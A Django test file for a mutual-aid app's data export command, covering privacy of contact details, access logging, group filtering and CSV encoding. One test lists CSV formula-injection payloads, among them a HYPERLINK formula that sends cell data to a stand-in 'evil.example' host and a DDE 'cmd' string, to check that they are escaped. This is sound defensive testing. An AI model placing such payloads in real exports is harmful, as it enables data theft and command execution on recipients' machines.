"""`mutua export`: a group's data out as CSV or JSON, private details only on request,
and every ask whose details leave is in the access log."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from mutua.aid.models import Ask
from mutua.aid.services import claim_ask, create_offer
from mutua.core.tests.factories import HACKNEY, make_ask, make_group
from mutua.privacy.models import AccessLog

pytestmark = pytest.mark.django_db

PHONE = "+442079460000"
ADDRESS = "12 Example Road, London E8"


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export", *args, stdout=out)
    return out.getvalue()


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def data(ward, helper, other_helper):
    first = make_ask(what="Bread and milk")
    second = make_ask(what="A lift to the clinic", category="transport", contact_email="b@ex.org")
    claim_ask(ask=second, helper=helper)
    create_offer(member=helper, kind="time", category="groceries", what="Saturdays", group=ward)
    return first, second


def test_export_without_contact_has_no_private_details(data):
    text = export("asks")

    rows = csv_rows(text)
    assert [r["what"] for r in rows] == ["Bread and milk", "A lift to the clinic"]
    assert rows[1]["status"] == "claimed" and rows[1]["group"] == "hackney-central"
    for secret in (PHONE, ADDRESS, "Ada", "b@ex.org", str(HACKNEY[0])):
        assert secret not in text
    assert "phone" not in rows[0] and "lat" not in rows[0]
    assert not AccessLog.objects.exists()


def test_export_with_contact_includes_it_and_logs_each_ask(data):
    rows = json.loads(export("asks", "--format", "json", "--with-contact"))

    assert rows[0]["phone"] == PHONE and rows[0]["address"] == ADDRESS
    assert (rows[0]["lat"], rows[0]["lon"]) == HACKNEY
    assert rows[1]["email"] == "b@ex.org"
    logged = AccessLog.objects.order_by("ask_id")
    assert [(e.ask_id, e.viewer, e.reason, e.channel) for e in logged] == [
        (data[0].pk, None, "operator", "export"),
        (data[1].pk, None, "operator", "export"),
    ]


def test_export_of_one_group_leaves_out_the_others(data):
    elsewhere = make_group(name="Croydon", center=(51.3762, -0.0982))
    make_ask(what="Croydon ask", lat=51.3762, lon=-0.0982)

    mine = json.loads(export("asks", "--format", "json", "--group", "hackney-central"))
    theirs = json.loads(export("asks", "--format", "json", "--group", elsewhere.slug))

    assert [r["what"] for r in theirs] == ["Croydon ask"]
    assert "Croydon ask" not in [r["what"] for r in mine] and len(mine) == 2


def test_members_and_offers_show_emails_only_with_contact(data, helper):
    members = csv_rows(export("members", "--group", "hackney-central"))
    offers = json.loads(export("offers", "--format", "json"))
    with_contact = json.loads(export("members", "--format", "json", "--with-contact"))

    assert {m["group"] for m in members} == {"hackney-central"} and len(members) == 2
    assert "email" not in members[0] and "@" not in "".join(members[0].values())
    assert offers[0]["member"] == helper.display_name and "email" not in offers[0]
    assert helper.email in {m["email"] for m in with_contact}


def test_export_to_a_file_says_where_it_went(data, tmp_path):
    target = tmp_path / "asks.json"

    said = export("asks", "--format", "json", "--out", str(target))

    assert said == f"Exported 2 asks to {target}.\n"
    assert len(json.loads(target.read_text(encoding="utf-8"))) == 2


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["asks", "--group", "nowhere"], "no group with the short name nowhere"),
        (["asks", "--out", "/"], "is a folder"),
    ],
)
def test_bad_export_arguments_give_one_line(ward, args, words):
    with pytest.raises(CommandError, match=words):
        export(*args)


def test_unknown_kind_or_format_is_refused_by_the_parser():
    with pytest.raises(CommandError, match="invalid choice"):
        export("secrets")
    with pytest.raises(CommandError, match="invalid choice"):
        export("asks", "--format", "xml")


@pytest.mark.parametrize(
    "what",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-1)*HYPERLINK(1",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_cells_that_would_start_a_formula_are_escaped(ward, what, tmp_path):
    # Anyone can make an ask, so its text is anyone's: an anonymous asker wrote this.
    make_ask(what=what)
    target = tmp_path / "asks.csv"

    export("asks", "--out", str(target))

    data = target.read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    stored = Ask.objects.get().what
    assert rows[0]["what"] == "'" + stored
    for cell in rows[0].values():
        assert not cell.startswith(("=", "+", "-", "@")) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_export_files_are_utf8_with_a_byte_order_mark_for_excel(ward, tmp_path):
    make_ask(what="Zakupy dla pani Łucji, café au lait, خبز")
    target = tmp_path / "asks.csv"

    export("asks", "--out", str(target))

    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Łucji, café au lait, خبز" in data.decode("utf-8-sig")


def test_csv_on_the_screen_also_starts_with_a_byte_order_mark(ward):
    # `mutua export asks > asks.csv` is how many save it; Excel needs the mark either way.
    make_ask(what="Zakupy dla pani Łucji")
    screen = io.BytesIO()
    stdout = io.TextIOWrapper(screen, encoding="utf-8", newline="")

    call_command("export", "asks", stdout=stdout)
    stdout.flush()

    data = screen.getvalue()
    assert data.startswith(b"\xef\xbb\xbfid,status,what,")
    assert csv_rows(data.decode("utf-8"))[0]["what"] == "Zakupy dla pani Łucji"


def test_json_has_no_byte_order_mark(ward, tmp_path):
    make_ask(what="Bread")
    target = tmp_path / "asks.json"

    on_screen = export("asks", "--format", "json")
    export("asks", "--format", "json", "--out", str(target))

    assert json.loads(on_screen)[0]["what"] == "Bread"
    assert target.read_bytes().startswith(b"[")


def test_numbers_and_phone_numbers_are_not_escaped(ward):
    make_ask(what="Bread", contact_phone="+442079460000")

    rows = csv_rows(export("asks", "--with-contact"))

    assert not rows[0]["urgency"].startswith("'")
    assert not rows[0]["id"].startswith("'")
    assert rows[0]["phone"] == "+442079460000"


def test_an_empty_group_is_refused_instead_of_exporting_every_groups(data):
    # `--group "$SLUG"` with the variable unset must not export every group's asks.
    with pytest.raises(CommandError, match="--group needs a group's short name"):
        export("asks", "--group", " ", "--with-contact")

    assert not AccessLog.objects.exists()


@pytest.mark.parametrize(
    "extra",
    [("asks",), ("--group", "hackney-central"), ("--with-contact",), ("--format", "csv")],
)
def test_a_persons_export_refuses_options_it_would_ignore(data, helper, extra):
    # Each would otherwise be dropped without a word: a CSV asked for and JSON given.
    with pytest.raises(CommandError, match="--person"):
        export("--person", helper.email, *extra)

    assert json.loads(export("--person", helper.email, "--format", "json"))["email"] == helper.email
